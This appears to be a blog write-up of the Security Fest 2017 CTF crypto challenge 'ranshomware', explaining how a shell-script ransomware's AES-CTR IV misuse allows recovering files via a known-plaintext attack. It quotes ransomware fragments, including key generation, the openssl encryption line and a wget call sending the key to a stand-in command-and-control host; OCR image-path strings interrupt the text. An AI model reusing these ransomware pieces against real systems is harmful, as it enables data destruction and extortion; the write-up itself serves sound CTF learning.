Ranshomware - Crypto (100 + 0)
    ● We found an sh ransomware on a server. Can you help us recover the server's data? ● Solves: 12 ● Download: http://dl.ctf.rocks/ranshomware.zip ● Author: SecureLink / klondike

ranshomware.zip contains, as promised, ransomware in shell script form along with a directory that’s been hit:


All copies of encrypted.txt are identical:

All your files have been encrypted, pay us a lot of money
to our accountand we'll give them back to you. Say
so we can give you the right key

The Debian iso and flag.txt both contain uniform noise, evidently successfully encrypted.

The Script

Let’s step through the shell script:key="$(cat /dev/urandom | tr -dc '0-9a-f' | fold -w 64 | head -1)"

First, key is defined by grabbing only the ascii charsthat define hex bytes (0-9a-f) from /dev/urandom, splitting them into lines of 64 chars each, and grabbing the first line. This is a bit of a weird way to do it, but we’ll wind up with a 256-bit key in the form of a hex string. Bruteforcing the key is definitely out.

ekey="$(echo "$key" | openssl dgst -sha512 -hex | tail -c 128)"

Next, ekey is just the SHA512 hash of key, with the leading character truncated (probably a bug related to not taking newlines into account during tail -c 128). Reversing the hash is also definitely out.wget "http://cac.example.com/?key=$key" -q -O /dev/null

iv is set to 0, and an (example) HTTP request theoretically delivers key to the command and control network.

The actual function is defined next: it takes one argument. If this is a directory, it writes ekey and some instructions into encrypted.txt, then calls itself recursively on the contents of the dir. iv is incremented oneach execution of the function.

If the argument is a file, the real payload happens: the file is encrypted, the original is deleted, and the encrypted copy is moved into its place. The encryption itself deserves a close look:

openssl enc -e -aes-256-ctr -iv "$(printf "%032x" "$iv")" \
-K "$key" -in "$f" -out "$f.enc";


So we’re using OpenSSL for encryption, with AES-256 in the CTR mode of operation. The IV is $iv, formatted as a 16-byte (32 character) hex string left-padded with zeroes. I was initially excited, hoping it was as straightforward of an implementation flaw as nonce reuse in counter mode, but it took a little more figuring than that.

Let’s look at how CTR mode works, courtesy of Wikipedia’s article on block cipher modes of operation:

Crypto basics: in CTR/Counter mode, instead of directly encrypting the plaintext using AES, we’re using AES to create a stream cipher. For each block, we encrypt nonce || counter with the secret key to give us a block of keystream that we XOR with a block of the plaintext to get a block of the ciphertext. The nonce is ideally random, and the counter ideally incremented each block starting at all zeroes. Wikipedia’s diagram is not necessarily how AES-CTR is always implemented, but from this we’d expect 8 bytes of nonce and 8 bytes of counter (both AES-128 and AES-256 have a block width of 16 bytes).Since we’re essentially working with a stream cipher in regards to the plaintext/ciphertext relationship, any reuse of keystream is effectively a many-time pad. Since one of the two files we’re given encrypted versions of (debian-40r9-amd64-businesscard.iso) seems like it should have a publicly-accessible plaintext version, it looks like we might be able to mount a known-plaintext attack. Indeed, googling the filename gives us the VDL of a Debian mirror where we can find an identically-named and-sized file.

Whipping up a quick python script to XOR the known plaintext with the ciphertext to get the keystream and apply this keystream to the encrypted flag only outputs garbage – of course, because of the IV incrementing built into the ransomware. Looking at the CTR mode diagram and keeping in mind the properties of AES (specifically the Avalanche effect), if the keystream source material (nonce || counter) is unique for every block encrypted, then we don’t have any easy attacks.

Next Steps

I spent some time mulling over the apparent lack of blatant weaknesses, and modified the ransomware script to provide some print debugging, and ran it on a ‘virgin’ version of the provided directory (minus all copies of encrypted.txt or any other ransomware crust):

[tkerr@pro sf]$ ./testiv.sh
current value of $iv: 1
current value of $iv: 2
current value of $iv: 3
found file orig/cd/debian-40r9-amd64-businesscard.iso - encrypting with iv 0x00000000000000000000000000000003
found dir orig/cd
current value of $iv: 4
current value of $iv: 5
found file orig/flags/flag.txt - encrypting with iv 0x00000000000000000000000000000005
found dir orig/flags
found dir orig

This is helpful – for the theoretical initial run of the ransomware, the IVs were 3 and 5 for the ISO and flag respectively. In thinking/talking this through, I realize something critical – despite the encyclopedia definition of CTR mode being nonce || counter for a total of 16 bytes, we’re feeding OpenSSL a full 16 bytes using the -iv argument.

I had initially assumed that “IV” was an alias for “nonce” in this implementation, probably with some left-stripping, but a bit of testing revealsthat we’re not actually defining the nonce here, we’re defining the entire IV – OpenSSL is assuming we’re providing the entirety of nonce || counter and incrementing the right half of the input automatically for each block.

This is key – this means that for all files encrypted, the nonce will be 0x0000000000000000 and the counter will start from some low index based on the order of the files in question. This means the keystream will be identical for all files, other than the keystream being offset by a number of blocks equivalent to the difference in $iv at the time of each file’s encryption. Since we’re able to derive a big chunk of keystream thanks to the Debian ISO KPA, and “coincidentally” the Debian ISO was encrypted first, we should be able to decrypt any subsequent bytes up tothe size of the Debian ISO (~33MiB).


Once the critical implementation error (feeding OpenSSL full IVs rather than just nonces) was realized, adapting the earlier attempt at a many-time pad attack was trivial. Here’s the Python I used, and here’s the result:

[tkerr@pro ranshomwared]$ ./crack-ranshomware.py
Hi man, I'm glad you solved this challenge!

So the flag? SURE!


Well, there is the flag, I hope you enjoy the rest of the challenges :)tl;dr: Supplying OpenSSL a full 16-byte IV via the -iv argument doesn’t just set thenonce, it sets the entire nonce || counter input, and OpenSSL will automatically increment from the initial value. Since one of the provided pre-encrypted files has an easily-obtainable known plaintext, we can XOR the plaintext and ciphertext to get the AES-CTR keystream. Looking at the ransomware script helps us find the offset of the keystream that the flag was encrypted with. XORing the encrypted flag at the correct offset of the keystream gives us what we want.

Thanks to my wife for filling in as an incredibly overqualified rubber duck!

One thought on “Security Fest 2017 CTF: ranshomware

  1. Thanks to you for participating, reading your write up filled me with happiness and reminded me of my CTF participant days 😀

Leave a Reply

Your email addresswill not be published. Required fields are marked *